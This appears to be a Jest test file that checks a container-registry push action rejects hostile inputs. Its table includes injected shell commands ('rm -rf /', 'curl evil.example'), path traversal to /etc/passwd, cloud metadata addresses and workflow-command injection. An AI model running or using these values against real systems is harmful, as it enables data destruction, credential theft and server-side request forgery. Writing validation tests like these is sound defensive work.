import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { FaultProxy } from '@deploy-actions/emulators/fault-proxy';
import { readServices, runAction } from '@deploy-actions/harness';
import { makeLayout } from './fixtures';

// Hostile inputs (issue 12): each must end in one line naming the input, no stack, no request to the
// counting proxy, and no connection attempt to any non-loopback host (the preloaded guard records those).
const local = readServices().registry;
let proxy: FaultProxy;
let layoutDir: string;
const guardDir = mkdtempSync(join(tmpdir(), 'guard-'));

beforeAll(async () => {
  proxy = new FaultProxy(local);
  await proxy.listen();
  layoutDir = makeLayout({ layerSizes: [100] }).dir;
});
afterAll(async () => {
  await proxy.close();
  rmSync(layoutDir, { recursive: true, force: true });
  rmSync(guardDir, { recursive: true, force: true });
});

const big = 'a'.repeat(100_000);
type Case = [name: string, inputs: () => Record<string, string>, input: string, problem: RegExp];
const dest = () => `${proxy.host}/app/api:1`;
const base = () => ({ 'source-archive': layoutDir, destinations: dest() });

const cases: Case[] = [
  ['an unknown compression', () => ({ ...base(), compression: 'brotli' }), 'compression', /not one of the choices/],
  ['shell text as compression', () => ({ ...base(), compression: 'gzip; rm -rf /' }), 'compression', /not one of/],
  [
    'a compression level that is not a number',
    () => ({ ...base(), 'compression-level': 'max' }),
    'compression-level',
    /whole number/,
  ],
  [
    'a compression level out of range',
    () => ({ ...base(), 'compression-level': '0' }),
    'compression-level',
    /out of range/,
  ],
  [
    'a level with compression none',
    () => ({ ...base(), compression: 'none', 'compression-level': '3' }),
    'compression-level',
    /compression is none/,
  ],
  ['login that is not a boolean', () => ({ ...base(), login: 'please' }), 'login', /.+/],
  [
    'path traversal in a destination',
    () => ({ ...base(), destinations: `${proxy.host}/../etc/passwd:1` }),
    'destinations',
    /invalid name component/,
  ],
  [
    'encoded traversal in a destination',
    () => ({ ...base(), destinations: `${proxy.host}/app/%2e%2e/x:1` }),
    'destinations',
    /invalid name component/,
  ],
  [
    'a metadata address as registry',
    () => ({ ...base(), destinations: '169.254.169.254/app:1' }),
    'destinations',
    /link-local/,
  ],
  [
    'the Google metadata host as registry',
    () => ({ ...base(), destinations: 'metadata.google.internal/app:1' }),
    'destinations',
    /metadata/,
  ],
  [
    'the metadata host as source',
    () => ({ source: '169.254.169.254/app:1', destinations: dest() }),
    'source',
    /link-local/,
  ],
  [
    'shell metacharacters in a tag',
    () => ({ ...base(), destinations: `${proxy.host}/app:1;rm` }),
    'destinations',
    /invalid tag/,
  ],
  [
    'command substitution as registry',
    () => ({ ...base(), destinations: '$(whoami).example/app:1' }),
    'destinations',
    /invalid registry host/,
  ],
  [
    'a 100 KB destination',
    () => ({ ...base(), destinations: `${proxy.host}/${big}:1` }),
    'destinations',
    /too long|longer than 255/,
  ],
  [
    'a tag of 129 characters',
    () => ({ ...base(), destinations: `${proxy.host}/app:${'t'.repeat(129)}` }),
    'destinations',
    /invalid tag/,
  ],
  [
    'a name over 255 characters',
    () => ({ ...base(), destinations: `${proxy.host}/${'n/'.repeat(130)}x:1` }),
    'destinations',
    /longer than 255/,
  ],
  [
    'a control character in a destination',
    () => ({ ...base(), destinations: `${proxy.host}/app:1\u0007` }),
    'destinations',
    /control characters/,
  ],
  [
    'a source with shell text',
    () => ({ source: 'docker://app:1 && curl evil.example', destinations: dest() }),
    'source',
    /contains spaces/,
  ],
  ['a file URL as source', () => ({ source: 'file:///etc/passwd', destinations: dest() }), 'source', /unknown scheme/],
  [
    'a 100 KB source',
    () => ({ source: `${proxy.host}/${big}:1`, destinations: dest() }),
    'source',
    /too long|longer than 255/,
  ],
  [
    'a system file as archive',
    () => ({ 'source-archive': '/etc/passwd', destinations: dest() }),
    'source-archive',
    /not a tar/,
  ],
  [
    'a prototype key in credentials',
    () => ({ ...base(), credentials: '__proto__=a:b' }),
    'credentials',
    /not a registry host/,
  ],
  [
    'a credentials line without a password',
    () => ({ ...base(), credentials: `${proxy.host}=only-user` }),
    'credentials',
    /not USERNAME:PASSWORD/,
  ],
  [
    'a prototype key in registry-auth',
    () => ({ ...base(), 'registry-auth': '__proto__=basic' }),
    'registry-auth',
    /.+/,
  ],
  [
    'an unknown auth method',
    () => ({ ...base(), 'registry-auth': `${proxy.host}=root` }),
    'registry-auth',
    /not a method/,
  ],
  [
    'docker-config without a login',
    () => ({ ...base(), 'registry-auth': `${proxy.host}=docker-config` }),
    'registry-auth',
    /has no login/,
  ],
  [
    'credentials over plain HTTP to a non-loopback registry',
    () => ({
      ...base(),
      destinations: 'registry.example.com/app:1',
      'insecure-registries': 'registry.example.com',
      credentials: 'registry.example.com=u:p',
    }),
    'insecure-registries',
    /over plain HTTP/,
  ],
  [
    'a region with a newline',
    () => ({ ...base(), 'aws-region': 'us-east-1\n::set-output name=x::y' }),
    'aws-region',
    /not an AWS region/,
  ],
  ['a negative timeout', () => ({ ...base(), timeout: '-5m' }), 'timeout', /.+/],
  ['concurrency in exponent form', () => ({ ...base(), concurrency: '1e3' }), 'concurrency', /.+/],
  [
    'a token-like secret in a destination',
    () => ({ ...base(), destinations: `${proxy.host}/ghp_abcdefABCDEF0123456789:1` }),
    'destinations',
    /lowercase/,
  ],
];

test('the table has at least 25 cases', () => expect(cases.length).toBeGreaterThanOrEqual(25));

for (const [name, inputs, input, problem] of cases)
  test(`refuses ${name}: one line naming ${input}, no request, no connection elsewhere`, async () => {
    const before = proxy.requests.length;
    const run = await runAction('push-registry', {
      inputs: inputs(),
      env: {
        DOCKER_CONFIG: guardDir,
      },
    });
    expect(run.exitCode).toBe(1);
    expect(run.errors).toHaveLength(1);
    expect(run.errors[0]).toMatch(new RegExp(`^Input "${input}": `));
    expect(run.errors[0]).toMatch(problem);
    expect(run.errors[0]).not.toMatch(/\n|at .*\.js:\d+/);
    expect(run.errors[0].length).toBeLessThan(600);
    expect(proxy.requests.length).toBe(before);
    // The harness's network guard records every connection and refuses any outside loopback.
    expect(run.connections.filter((c) => c.blocked)).toEqual([]);
  });
